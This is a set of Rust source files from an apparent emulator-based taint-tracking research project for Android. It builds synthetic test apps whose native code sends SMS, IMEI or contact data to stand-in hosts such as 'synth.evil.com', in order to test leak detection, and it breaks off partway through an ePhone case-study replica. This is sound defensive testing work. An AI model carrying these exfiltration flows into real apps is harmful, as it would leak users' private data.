            Mutation::ImplicitOnly => "implicit-only",
        }
    }
}

/// Where the flow terminates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Sink {
    /// Native `send(2)` after `connect`.
    NativeSend,
    /// Native `fprintf` to a file.
    NativeFile,
    /// Back to Java via `NewStringUTF`, then `Socket.send`.
    JavaSend,
}

/// A complete flow description.
#[derive(Debug, Clone)]
pub struct FlowSpec {
    /// The source to read.
    pub source: Source,
    /// Native transformations, applied in order.
    pub hops: Vec<Hop>,
    /// The terminal sink.
    pub sink: Sink,
    /// When `false`, the sensitive buffer is abandoned and a constant
    /// string goes to the sink instead (ground truth: no leak).
    pub leak: bool,
    /// μDep-style mutations applied after the hops, in order, each
    /// into a fresh buffer. A taint-killing mutation anywhere in the
    /// chain makes the payload clean from that point on.
    pub mutations: Vec<Mutation>,
}

impl FlowSpec {
    /// The spec's ground truth: does the payload that reaches the sink
    /// carry sensitive data? `leak` routes the sensitive buffer to the
    /// sink, but any taint-killing mutation severs the dependence —
    /// preserving mutations never resurrect it.
    pub fn expected_leak(&self) -> bool {
        self.leak && !self.mutations.iter().any(|m| m.kills_taint())
    }

    /// Returns the spec with `mutations` appended.
    #[must_use]
    pub fn with_mutations(mut self, mutations: &[Mutation]) -> FlowSpec {
        self.mutations.extend_from_slice(mutations);
        self
    }
}

/// Emits a byte-wise `dst[i] = src[i] ^ key` loop terminated by the
/// source NUL (which is also copied, XORed, as the terminator slot).
fn emit_xor_loop(asm: &mut Assembler, src: u32, dst: u32, key: u32) {
    asm.ldr_const(Reg::R4, src);
    asm.ldr_const(Reg::R5, dst);
    asm.mov_imm(Reg::R6, 0).unwrap();
    let top = asm.here_label();
    asm.ldrb_reg(Reg::R0, Reg::R4, Reg::R6);
    asm.cmp_imm(Reg::R0, 0).unwrap();
    let done = asm.label();
    asm.b_cond(Cond::Eq, done);
    asm.eor_imm(Reg::R0, Reg::R0, key).unwrap();
    asm.strb_reg(Reg::R0, Reg::R5, Reg::R6);
    asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
    asm.b(top);
    asm.bind(done).unwrap();
    asm.strb_reg(Reg::R0, Reg::R5, Reg::R6); // NUL
}

/// Builds an app realizing `spec`. The native method signature is
/// `String run(String data)` (the return feeds the Java sink when
/// [`Sink::JavaSend`]).
pub fn build(spec: &FlowSpec) -> App {
    let mut b = AppBuilder::new("synth-flow", "generated flow");
    let c = b.class("Lapp/Synth;");
    let dest = b.data_cstr("synth.evil.com");
    let path = b.data_cstr("/sdcard/synth.out");
    let mode_w = b.data_cstr("w");
    let fmt_s = b.data_cstr("v=%s");
    let fmt_file = b.data_cstr("%s");
    let decoy = b.data_cstr("decoy-payload");
    let stamp = b.data_cstr("stamped-const");
    // One buffer per hop and per mutation (plus the initial one).
    let buffers: Vec<u32> = (0..=spec.hops.len() + spec.mutations.len())
        .map(|_| b.data_buffer(128))
        .collect();

    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::LR]));
    // chars = GetStringUTFChars(data, 0); strcpy(buffers[0], chars)
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, buffers[0]);
    b.asm.call_abs(libc_addr("strcpy"));
    // Apply hops.
    for (i, hop) in spec.hops.iter().enumerate() {
        let (src, dst) = (buffers[i], buffers[i + 1]);
        match hop {
            Hop::Strcpy => {
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.ldr_const(Reg::R1, src);
                b.asm.call_abs(libc_addr("strcpy"));
            }
            Hop::Memcpy => {
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.ldr_const(Reg::R1, src);
                b.asm.mov_imm(Reg::R2, 64).unwrap();
                b.asm.call_abs(libc_addr("memcpy"));
            }
            Hop::XorLoop => emit_xor_loop(&mut b.asm, src, dst, 0x13),
            Hop::Sprintf => {
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.ldr_const(Reg::R1, fmt_s);
                b.asm.ldr_const(Reg::R2, src);
                b.asm.call_abs(libc_addr("sprintf"));
            }
            Hop::Strdup => {
                b.asm.ldr_const(Reg::R0, src);
                b.asm.call_abs(libc_addr("strdup"));
                // Copy the duplicate into dst so the chain continues
                // through a heap round-trip.
                b.asm.mov(Reg::R1, Reg::R0);
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.call_abs(libc_addr("strcpy"));
            }
        }
    }
    // Apply μDep-style mutations, each into its own fresh buffer.
    for (j, mutation) in spec.mutations.iter().enumerate() {
        let (src, dst) = (
            buffers[spec.hops.len() + j],
            buffers[spec.hops.len() + j + 1],
        );
        match mutation {
            Mutation::Xor29 => emit_xor_loop(&mut b.asm, src, dst, 0x29),
            Mutation::Reverse => {
                // dst[len-1-i] = src[i]: pure byte movement, every
                // output byte data-depends on an input byte.
                b.asm.ldr_const(Reg::R0, src);
                b.asm.call_abs(libc_addr("strlen"));
                b.asm.mov(Reg::R7, Reg::R0);
                b.asm.ldr_const(Reg::R4, src);
                b.asm.ldr_const(Reg::R5, dst);
                b.asm.mov_imm(Reg::R6, 0).unwrap();
                b.asm.cmp_imm(Reg::R7, 0).unwrap();
                let done = b.asm.label();
                b.asm.b_cond(Cond::Eq, done);
                let top = b.asm.here_label();
                b.asm.sub(Reg::R2, Reg::R7, Reg::R6);
                b.asm.sub_imm(Reg::R2, Reg::R2, 1).unwrap();
                b.asm.ldrb_reg(Reg::R0, Reg::R4, Reg::R6);
                b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R2);
                b.asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
                b.asm.cmp(Reg::R6, Reg::R7);
                b.asm.b_cond(Cond::Ne, top);
                b.asm.bind(done).unwrap();
                b.asm.mov_imm(Reg::R0, 0).unwrap();
                b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R7); // NUL
            }
            Mutation::ConstStamp => {
                // The input buffer is never read again: the stamp
                // severs the data dependence entirely.
                b.asm.ldr_const(Reg::R0, dst);
                b.asm.ldr_const(Reg::R1, stamp);
                b.asm.call_abs(libc_addr("strcpy"));
            }
            Mutation::ImplicitOnly => {
                // Read every tainted byte but store only the constant
                // 0x23: the output depends on the input through control
                // flow alone (loop trip count), which an explicit-flow
                // tracker must NOT flag.
                b.asm.ldr_const(Reg::R4, src);
                b.asm.ldr_const(Reg::R5, dst);
                b.asm.mov_imm(Reg::R6, 0).unwrap();
                let top = b.asm.here_label();
                b.asm.ldrb_reg(Reg::R0, Reg::R4, Reg::R6);
                b.asm.cmp_imm(Reg::R0, 0).unwrap();
                let done = b.asm.label();
                b.asm.b_cond(Cond::Eq, done);
                b.asm.mov_imm(Reg::R0, 0x23).unwrap();
                b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R6);
                b.asm.add_imm(Reg::R6, Reg::R6, 1).unwrap();
                b.asm.b(top);
                b.asm.bind(done).unwrap();
                b.asm.mov_imm(Reg::R0, 0).unwrap();
                b.asm.strb_reg(Reg::R0, Reg::R5, Reg::R6); // NUL
            }
        }
    }
    // Select the payload: the transformed buffer or the clean decoy.
    let payload = if spec.leak {
        *buffers.last().unwrap()
    } else {
        decoy
    };
    match spec.sink {
        Sink::NativeSend => {
            b.asm.call_abs(libc_addr("socket"));
            b.asm.mov(Reg::R7, Reg::R0);
            b.asm.ldr_const(Reg::R1, dest);
            b.asm.call_abs(libc_addr("connect"));
            b.asm.ldr_const(Reg::R0, payload);
            b.asm.call_abs(libc_addr("strlen"));
            b.asm.mov(Reg::R2, Reg::R0);
            b.asm.mov(Reg::R0, Reg::R7);
            b.asm.ldr_const(Reg::R1, payload);
            b.asm.mov_imm(Reg::R3, 0).unwrap();
            b.asm.call_abs(libc_addr("send"));
            b.asm.mov_imm(Reg::R0, 0).unwrap();
        }
        Sink::NativeFile => {
            b.asm.ldr_const(Reg::R0, path);
            b.asm.ldr_const(Reg::R1, mode_w);
            b.asm.call_abs(libc_addr("fopen"));
            b.asm.mov(Reg::R7, Reg::R0);
            b.asm.ldr_const(Reg::R1, fmt_file);
            b.asm.ldr_const(Reg::R2, payload);
            b.asm.call_abs(libc_addr("fprintf"));
            b.asm.mov(Reg::R0, Reg::R7);
            b.asm.call_abs(libc_addr("fclose"));
            b.asm.mov_imm(Reg::R0, 0).unwrap();
        }
        Sink::JavaSend => {
            // Return NewStringUTF(payload); the Java side sends it.
            b.asm.ldr_const(Reg::R0, payload);
            b.asm.call_abs(dvm_addr("NewStringUTF"));
        }
    }
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "run", "LL", true, entry);

    let (src_cls, src_m) = spec.source.method();
    let source = b.program.find_method_by_name(src_cls, src_m).unwrap();
    let send = b
        .program
        .find_method_by_name("Ljava/net/Socket;", "send")
        .unwrap();
    let dest_str = b.string_const("synth-java.evil.com");
    let mut code = vec![
        DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: source,
            args: vec![],
        },
        DexInsn::MoveResult { dst: 0 },
        DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: native,
            args: vec![0],
        },
        DexInsn::MoveResult { dst: 0 },
    ];
    if spec.sink == Sink::JavaSend {
        code.push(DexInsn::ConstString {
            dst: 1,
            index: dest_str,
        });
        code.push(DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: send,
            args: vec![1, 0],
        });
    }
    code.push(DexInsn::ReturnVoid);
    b.method(
        c,
        MethodDef::new("main", "V", MethodKind::Bytecode(code)).with_registers(2),
    );
    b.finish("Lapp/Synth;", "main").unwrap()
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;

    #[test]
    fn minimal_specs_behave() {
        for sink in [Sink::NativeSend, Sink::NativeFile, Sink::JavaSend] {
            let spec = FlowSpec {
                source: Source::Sms,
                hops: vec![Hop::Memcpy],
                sink,
                leak: true,
                mutations: vec![],
            };
            let sys = build(&spec).run(Mode::NDroid).unwrap();
            assert_eq!(sys.leaks().len(), 1, "{sink:?}");
            assert!(sys.leaks()[0].taint.contains(Taint::SMS));
        }
    }

    #[test]
    fn decoy_specs_are_clean() {
        let spec = FlowSpec {
            source: Source::Imei,
            hops: vec![Hop::Strcpy, Hop::XorLoop],
            sink: Sink::NativeSend,
            leak: false,
            mutations: vec![],
        };
        let sys = build(&spec).run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.kernel.network_log.len(), 1, "decoy was sent");
    }

    #[test]
    fn preserving_mutations_keep_the_leak() {
        for mutation in [Mutation::Xor29, Mutation::Reverse] {
            let spec = FlowSpec {
                source: Source::Contact,
                hops: vec![Hop::Strcpy],
                sink: Sink::NativeSend,
                leak: true,
                mutations: vec![mutation],
            };
            assert!(spec.expected_leak());
            let sys = build(&spec).run(Mode::NDroid).unwrap();
            assert_eq!(sys.leaks().len(), 1, "{mutation:?}");
            assert!(sys.leaks()[0].taint.contains(Taint::CONTACTS));
        }
    }

    #[test]
    fn killing_mutations_flip_ground_truth_and_stay_clean() {
        for mutation in [Mutation::ConstStamp, Mutation::ImplicitOnly] {
            let spec = FlowSpec {
                source: Source::Contact,
                hops: vec![Hop::Strcpy],
                sink: Sink::NativeSend,
                leak: true,
                mutations: vec![mutation],
            };
            assert!(!spec.expected_leak());
            let sys = build(&spec).run(Mode::NDroid).unwrap();
            assert!(sys.leaks().is_empty(), "{mutation:?} must not be flagged");
            assert_eq!(sys.kernel.network_log.len(), 1, "payload was sent");
        }
    }

    #[test]
    fn killing_mutation_followed_by_preserving_stays_clean() {
        // A preserving mutation must never resurrect a severed flow.
        let spec = FlowSpec {
            source: Source::Imei,
            hops: vec![],
            sink: Sink::NativeSend,
            leak: true,
            mutations: vec![Mutation::ConstStamp, Mutation::Xor29],
        };
        assert!(!spec.expected_leak());
        let sys = build(&spec).run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty());
    }
}
