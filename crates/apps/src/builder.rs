//! The app builder: packages Dalvik bytecode, assembled ARM native
//! code and a static data section into a runnable [`App`].

use ndroid_arm::asm::{Assembler, CodeBlock, Label};
use ndroid_arm::ArmError;
use ndroid_core::{Mode, NDroidSystem, SystemConfig};
use ndroid_dvm::framework::install_framework;
use ndroid_dvm::{ClassDef, ClassId, DvmError, MethodDef, MethodId, MethodKind, Program, Taint};
use ndroid_emu::layout::NATIVE_CODE_BASE;

/// Where an app's static data (strings, global buffers) lives — inside
/// the third-party-library region, after the text.
pub const DATA_BASE: u32 = NATIVE_CODE_BASE + 0x0008_0000;

/// A packaged application.
pub struct App {
    /// App name (market-style).
    pub name: String,
    /// What the app does / which case it exercises.
    pub description: String,
    /// The Dalvik program (framework pre-installed).
    pub program: Program,
    /// The assembled native library, if any.
    pub native: Option<CodeBlock>,
    /// Static data section: (address, bytes).
    pub data: Vec<(u32, Vec<u8>)>,
    /// Library name as it appears in the process memory map.
    pub lib_name: String,
    /// Entry point: (class internal name, method name).
    pub entry: (String, String),
    /// For Type-III (pure native) apps: the guest entry address that
    /// replaces the Java entry point.
    pub native_entry: Option<u32>,
}

impl std::fmt::Debug for App {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("App")
            .field("name", &self.name)
            .field("entry", &self.entry)
            .finish()
    }
}

impl App {
    /// Boots a system in `mode` with the default configuration,
    /// consuming the app (app constructors are cheap pure functions —
    /// build one per run).
    pub fn launch(self, mode: Mode) -> NDroidSystem {
        self.launch_with(SystemConfig::new(mode))
    }

    /// Boots a system from a full [`SystemConfig`], consuming the app.
    pub fn launch_with(self, config: SystemConfig) -> NDroidSystem {
        let mut sys = NDroidSystem::from_config(self.program, config);
        if let Some(code) = &self.native {
            sys.load_native(code, &self.lib_name);
        }
        for (addr, bytes) in &self.data {
            sys.mem.write_bytes(*addr, bytes);
        }
        sys
    }

    /// Boots and runs the app's entry point, returning the system for
    /// inspection.
    ///
    /// # Errors
    ///
    /// Propagates interpreter/guest failures.
    pub fn run(self, mode: Mode) -> Result<NDroidSystem, DvmError> {
        self.run_with(SystemConfig::new(mode))
    }

    /// Boots from `config` and runs the app's entry point, returning
    /// the system for inspection (call
    /// [`NDroidSystem::report`] on it for the run's [`ndroid_core::RunReport`]).
    ///
    /// # Errors
    ///
    /// Propagates interpreter/guest failures.
    pub fn run_with(self, config: SystemConfig) -> Result<NDroidSystem, DvmError> {
        let entry = self.entry.clone();
        let native_entry = self.native_entry;
        let mut sys = self.launch_with(config);
        match native_entry {
            Some(addr) => {
                sys.run_native(addr, &[])
                    .map_err(|e| DvmError::NativeFailure(e.to_string()))?;
            }
            None => {
                sys.run_java(&entry.0, &entry.1, &[])?;
            }
        }
        Ok(sys)
    }

    /// Like [`App::run`], but applies `configure` to the booted system
    /// before the entry point runs — for knobs not yet expressible as
    /// [`SystemConfig`] fields. Prefer [`App::run_with`].
    ///
    /// # Errors
    ///
    /// Propagates interpreter/guest failures.
    pub fn run_configured(
        self,
        mode: Mode,
        configure: impl FnOnce(&mut NDroidSystem),
    ) -> Result<NDroidSystem, DvmError> {
        let entry = self.entry.clone();
        let native_entry = self.native_entry;
        let mut sys = self.launch(mode);
        configure(&mut sys);
        match native_entry {
            // Type-III (pure native) app: the entry is ARM code.
            Some(addr) => {
                sys.run_native(addr, &[])
                    .map_err(|e| DvmError::NativeFailure(e.to_string()))?;
            }
            None => {
                sys.run_java(&entry.0, &entry.1, &[])?;
            }
        }
        Ok(sys)
    }
}

/// Builder for [`App`]s: a Dalvik program (framework installed), an
/// ARM assembler positioned at the native-code base, and a data
/// cursor.
pub struct AppBuilder {
    name: String,
    description: String,
    /// The program being built.
    pub program: Program,
    /// The native-library assembler.
    pub asm: Assembler,
    data: Vec<(u32, Vec<u8>)>,
    data_cursor: u32,
    native_fixups: Vec<(MethodId, Label)>,
}

impl std::fmt::Debug for AppBuilder {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AppBuilder").field("name", &self.name).finish()
    }
}

impl AppBuilder {
    /// Starts building an app.
    pub fn new(name: &str, description: &str) -> AppBuilder {
        let mut program = Program::new();
        install_framework(&mut program);
        AppBuilder {
            name: name.to_string(),
            description: description.to_string(),
            program,
            asm: Assembler::new(NATIVE_CODE_BASE),
            data: Vec::new(),
            data_cursor: DATA_BASE,
            native_fixups: Vec::new(),
        }
    }

    /// Adds a class with no fields.
    pub fn class(&mut self, name: &str) -> ClassId {
        self.program.add_class(ClassDef {
            name: name.to_string(),
            ..ClassDef::default()
        })
    }

    /// Adds a bytecode method.
    pub fn method(&mut self, class: ClassId, def: MethodDef) -> MethodId {
        self.program.add_method(class, def)
    }

    /// Declares a native method whose body starts at `label` in the
    /// app's assembler (resolved at [`finish`](AppBuilder::finish)).
    pub fn native_method(
        &mut self,
        class: ClassId,
        name: &str,
        shorty: &str,
        is_static: bool,
        label: Label,
    ) -> MethodId {
        let mut def = MethodDef::new(name, shorty, MethodKind::Native { entry: 0 });
        if !is_static {
            def = def.virtual_method();
        }
        let id = self.program.add_method(class, def);
        self.native_fixups.push((id, label));
        id
    }

    /// Places a NUL-terminated string in the data section.
    pub fn data_cstr(&mut self, s: &str) -> u32 {
        let addr = self.data_cursor;
        let mut bytes = s.as_bytes().to_vec();
        bytes.push(0);
        self.data_cursor += (bytes.len() as u32 + 7) & !7;
        self.data.push((addr, bytes));
        addr
    }

    /// Reserves a zeroed buffer in the data section.
    pub fn data_buffer(&mut self, size: u32) -> u32 {
        let addr = self.data_cursor;
        self.data_cursor += (size + 7) & !7;
        self.data.push((addr, vec![0; size as usize]));
        addr
    }

    /// Interns a Java string constant.
    pub fn string_const(&mut self, s: &str) -> u32 {
        self.program.intern(s)
    }

    /// Finalizes: assembles the native library, patches native method
    /// entry addresses, and returns the app.
    ///
    /// # Errors
    ///
    /// Assembly failures (unbound labels, out-of-range branches).
    pub fn finish(
        mut self,
        entry_class: &str,
        entry_method: &str,
    ) -> Result<App, ArmError> {
        let has_native = !self.native_fixups.is_empty();
        let code = self.asm.assemble()?;
        for (mid, label) in &self.native_fixups {
            self.program.set_native_entry(*mid, code.addr_of(*label));
        }
        Ok(App {
            name: self.name,
            description: self.description,
            program: self.program,
            native: if has_native || !code.bytes.is_empty() {
                Some(code)
            } else {
                None
            },
            data: self.data,
            lib_name: "libnative.so".to_string(),
            entry: (entry_class.to_string(), entry_method.to_string()),
            native_entry: None,
        })
    }

    /// Finalizes a **pure-native (Type III)** app: the entry point is
    /// the ARM code at `entry` rather than a Java method.
    ///
    /// # Errors
    ///
    /// Assembly failures (unbound labels, out-of-range branches).
    pub fn finish_pure_native(mut self, entry: Label) -> Result<App, ArmError> {
        let code = self.asm.assemble()?;
        for (mid, label) in &self.native_fixups {
            self.program.set_native_entry(*mid, code.addr_of(*label));
        }
        let native_entry = Some(code.addr_of(entry));
        Ok(App {
            name: self.name,
            description: self.description,
            program: self.program,
            native: Some(code),
            data: self.data,
            lib_name: "libmain.so".to_string(),
            entry: (String::new(), String::new()),
            native_entry,
        })
    }
}

/// Convenience: a `(value, taint)` argument list with no taints.
pub fn no_args() -> Vec<(u32, Taint)> {
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_arm::Reg;
    use ndroid_dvm::bytecode::DexInsn;
    use ndroid_dvm::InvokeKind;

    #[test]
    fn builder_assembles_and_patches_entries() {
        let mut b = AppBuilder::new("t", "test app");
        let c = b.class("Lapp/T;");
        let entry = b.asm.label();
        b.asm.bind(entry).unwrap();
        b.asm.add_imm(Reg::R0, Reg::R0, 5).unwrap();
        b.asm.bx(Reg::LR);
        let native = b.native_method(c, "plus5", "II", true, entry);
        let main = MethodDef::new(
            "main",
            "I",
            MethodKind::Bytecode(vec![
                DexInsn::Const { dst: 0, value: 37 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: native,
                    args: vec![0],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Return { src: 0 },
            ]),
        )
        .with_registers(1);
        b.method(c, main);
        let app = b.finish("Lapp/T;", "main").unwrap();
        assert!(app.native.is_some());

        let mut sys = app.launch(Mode::NDroid);
        let (v, _) = sys.run_java("Lapp/T;", "main", &[]).unwrap();
        assert_eq!(v, 42);
    }

    #[test]
    fn data_section_loads() {
        let mut b = AppBuilder::new("t", "d");
        let s = b.data_cstr("hello");
        let buf = b.data_buffer(32);
        assert!(buf > s);
        let c = b.class("Lapp/T;");
        b.method(
            c,
            MethodDef::new("main", "I", MethodKind::Bytecode(vec![
                DexInsn::Const { dst: 0, value: 0 },
                DexInsn::Return { src: 0 },
            ]))
            .with_registers(1),
        );
        let app = b.finish("Lapp/T;", "main").unwrap();
        let sys = app.launch(Mode::Vanilla);
        assert_eq!(sys.mem.read_cstr(s), b"hello");
    }
}
