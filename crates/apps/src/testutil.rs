//! Test-support helpers shared by the pinned-gallery and adversarial
//! integration suites (`gallery_regression`, `oracle_gallery`,
//! `provenance_gallery`, `adversarial_regression`): the pinned gallery
//! list, engine/provenance run wrappers, the engine bit-identity
//! assertion, and the provenance path-coverage assertion.
//!
//! Not `#[cfg(test)]`-gated because integration tests link the crate
//! externally; production code has no reason to call these.

use crate::builder::App;
use ndroid_core::{
    EngineKind, FlowGraph, Mode, NDroidSystem, ProvEvent, ProvenanceLevel, RunReport,
    SystemConfig,
};
use ndroid_dvm::Taint;

/// The pinned case-study gallery: name ↔ constructor.
pub const GALLERY: [(&str, fn() -> App); 3] = [
    ("qq_phonebook", crate::qq_phonebook::qq_phonebook),
    ("thumb_spy", crate::thumb_spy::thumb_spy),
    ("crypto_hider", crate::crypto_hider::crypto_hider),
];

/// Builds and runs an app under plain NDroid mode.
pub fn run_ndroid(build: impl Fn() -> App) -> NDroidSystem {
    build().run(Mode::NDroid).expect("app run")
}

/// Builds and runs an app under NDroid with the given tracer engine,
/// returning its report.
pub fn run_engine(build: impl Fn() -> App, engine: EngineKind) -> RunReport {
    build()
        .run_with(SystemConfig::ndroid().engine(engine))
        .expect("engine run")
        .report()
}

/// Builds and runs an app under NDroid with the given engine and
/// provenance recording level.
pub fn run_prov(
    build: impl Fn() -> App,
    engine: EngineKind,
    level: ProvenanceLevel,
) -> NDroidSystem {
    build()
        .run_with(SystemConfig::ndroid().engine(engine).provenance(level))
        .expect("app runs")
}

/// Builds and runs an app with the tiered provenance store enabled at
/// the given hot-ring capacity — small capacities force segment
/// sealing on the short gallery streams.
pub fn run_store(
    build: impl Fn() -> App,
    engine: EngineKind,
    level: ProvenanceLevel,
    capacity: usize,
) -> NDroidSystem {
    build()
        .run_with(
            SystemConfig::ndroid()
                .engine(engine)
                .provenance(level)
                .provenance_store(true)
                .provenance_capacity(capacity),
        )
        .expect("app runs")
}

/// Runs the three tracer configurations — the optimized engine with
/// superblock dispatch (the default), the optimized engine stepping
/// per instruction (`blocks(false)`), and the reference engine —
/// asserts their reports agree on everything externally observable,
/// and returns the reference-engine report for pinned-leak checks.
pub fn assert_reports_match(build: impl Fn() -> App, name: &str) -> RunReport {
    let opt = run_engine(&build, EngineKind::Optimized);
    let stepper = build()
        .run_with(SystemConfig::ndroid().blocks(false))
        .expect("blocks-off run")
        .report();
    let reference = run_engine(&build, EngineKind::Reference);
    assert_eq!(opt.engine, EngineKind::Optimized);
    assert_eq!(
        reference.engine,
        EngineKind::Reference,
        "{name}: reference engine must actually be installed"
    );

    assert_eq!(
        opt.sink_events, reference.sink_events,
        "{name}: sink-event reports diverge between engines"
    );
    assert_eq!(
        opt.network_log, reference.network_log,
        "{name}: network logs diverge between engines"
    );
    assert_eq!(
        opt.violations, reference.violations,
        "{name}: protection violations diverge between engines"
    );
    assert_eq!(
        (opt.native_insns, opt.bytecodes),
        (reference.native_insns, reference.bytecodes),
        "{name}: engines executed different instruction counts"
    );
    // Superblock dispatch vs the per-instruction stepper on the same
    // optimized engine: block compilation must be invisible to every
    // externally observable result.
    assert_eq!(
        opt.sink_events, stepper.sink_events,
        "{name}: sink-event reports diverge between blocks on/off"
    );
    assert_eq!(
        opt.network_log, stepper.network_log,
        "{name}: network logs diverge between blocks on/off"
    );
    assert_eq!(
        opt.violations, stepper.violations,
        "{name}: protection violations diverge between blocks on/off"
    );
    assert_eq!(
        (opt.native_insns, opt.bytecodes),
        (stepper.native_insns, stepper.bytecodes),
        "{name}: blocks on/off executed different instruction counts"
    );
    reference
}

/// For every pinned leak the graph holds a matching `Sink` event with a
/// non-empty path per label bit, starting at a `Source` that carries
/// that bit and ending at the sink itself.
pub fn assert_paths_cover_pinned_leaks(name: &str, sys: &NDroidSystem, graph: &FlowGraph) {
    let leaks = sys.leaks();
    assert!(!leaks.is_empty(), "{name}: app must leak");
    for leak in leaks {
        let sink_idx = graph
            .events()
            .iter()
            .position(|e| {
                matches!(e, ProvEvent::Sink { sink, dest, label, .. }
                    if *sink == leak.sink && *dest == leak.dest && *label == leak.taint.0)
            })
            .unwrap_or_else(|| {
                panic!("{name}: no Sink event matches pinned leak {leak:?}")
            });
        let paths = graph.leak_paths(sink_idx);
        assert_eq!(
            paths.len(),
            leak.taint.0.count_ones() as usize,
            "{name}: one path per label bit"
        );
        for path in &paths {
            assert!(
                leak.taint.contains(Taint(path.label)),
                "{name}: path label {:#x} within the leak label",
                path.label
            );
            assert!(path.nodes.len() >= 2, "{name}: path spans source to sink");
            assert_eq!(*path.nodes.last().unwrap(), sink_idx);
            let first = &graph.events()[path.nodes[0]];
            assert!(
                matches!(first, ProvEvent::Source { label, .. } if label & path.label != 0),
                "{name}: path for bit {:#x} must start at a Source, got {}",
                path.label,
                first.canonical()
            );
        }
    }
}
