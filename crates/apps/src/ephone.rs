//! The ePhone 3.3 flow of Fig. 7 — a real-world Case 2.
//!
//! Java passes contact-tainted data (taint `0x2`) to the native
//! `callregister`, which converts it with `GetStringUTFChars`, pushes
//! it through `memcpy`/`memmove`/`sprintf`, and finally `sendto`s a SIP
//! REGISTER to `softphone.comwave.net`.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Builds the ePhone replica.
pub fn ephone() -> App {
    let mut b = AppBuilder::new(
        "ePhone-3.3",
        "Fig. 7: callregister -> GetStringUTFChars -> memcpy/sprintf -> sendto (Case 2)",
    );
    let c = b.class("Lcom/vnet/asip/general/general;");
    let staging = b.data_buffer(128);
    let message = b.data_buffer(256);
    let sip_fmt = b.data_cstr("REGISTER sip:softphone.comwave.net From: \"%s\"");
    let dest = b.data_cstr("softphone.comwave.net");

    // int callregister(int, int, String contact)  — args[2] is the
    // tainted String, as in the paper's log.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::LR]));
    b.asm.mov(Reg::R0, Reg::R2); // args[2]: contact jstring
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0); // contact chars
    // Fig. 7 shows the data passing through memcpy and memmove before
    // hitting the network.
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.add_imm(Reg::R2, Reg::R0, 1).unwrap(); // len incl. NUL
    b.asm.ldr_const(Reg::R0, staging);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.call_abs(libc_addr("memcpy"));
    b.asm.ldr_const(Reg::R1, staging);
    b.asm.add_imm(Reg::R0, Reg::R1, 4).unwrap();
    b.asm.mov_imm(Reg::R2, 60).unwrap();
    b.asm.call_abs(libc_addr("memmove")); // shuffle within staging
    // sprintf(message, SIP_FMT, staging+4)
    b.asm.ldr_const(Reg::R0, message);
    b.asm.ldr_const(Reg::R1, sip_fmt);
    b.asm.ldr_const(Reg::R2, staging + 4);
    b.asm.call_abs(libc_addr("sprintf"));
    // fd = socket()
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    // len = strlen(message)
    b.asm.ldr_const(Reg::R0, message);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R6, Reg::R0);
    // sendto(fd, message, len, 0, dest, 0)
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.ldr_const(Reg::R1, message);
    b.asm.mov(Reg::R2, Reg::R6);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.ldr_const(Reg::R4, dest);
    b.asm.sub_imm(Reg::SP, Reg::SP, 8).unwrap();
    b.asm.str(Reg::R4, Reg::SP, 0);
    b.asm.mov_imm(Reg::R4, 0).unwrap();
    b.asm.str(Reg::R4, Reg::SP, 4);
    b.asm.call_abs(libc_addr("sendto"));
    b.asm.add_imm(Reg::SP, Reg::SP, 8).unwrap();
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::PC]));
    let callregister = b.native_method(c, "callregister", "IIIL", true, entry);

    let contact = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "register",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contact,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 2 },
                DexInsn::Const { dst: 0, value: 0 },
                DexInsn::Const { dst: 1, value: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: callregister,
